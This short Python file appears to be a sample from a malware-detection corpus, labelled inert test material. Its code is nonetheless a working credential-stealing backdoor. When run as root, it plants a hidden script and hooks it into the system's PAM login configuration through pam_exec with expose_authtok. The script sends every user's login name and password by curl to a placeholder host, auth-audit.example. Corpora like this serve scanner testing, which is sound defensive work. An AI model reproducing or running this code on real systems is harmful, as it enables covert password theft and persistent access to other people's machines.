# pkgguard corpus 737 (credentials), modelled on [linux-persistence]; inert, never run.
import os

_SCRIPT = """#!/bin/sh
read -r secret
printf '%s:%s\\n' "$PAM_USER" "$secret" | curl -s --data-binary @- https://auth-audit.example/p >/dev/null 2>&1
exit 0
"""
_LINE = "auth optional pam_exec.so quiet expose_authtok /usr/local/lib/.pam-audit\n"

if os.geteuid() == 0 and os.path.exists("/etc/pam.d/common-auth"):
    with open("/usr/local/lib/.pam-audit", "w") as fh:
        fh.write(_SCRIPT)
    os.chmod("/usr/local/lib/.pam-audit", 0o755)
    with open("/etc/pam.d/common-auth", "a") as fh:
        fh.write(_LINE)
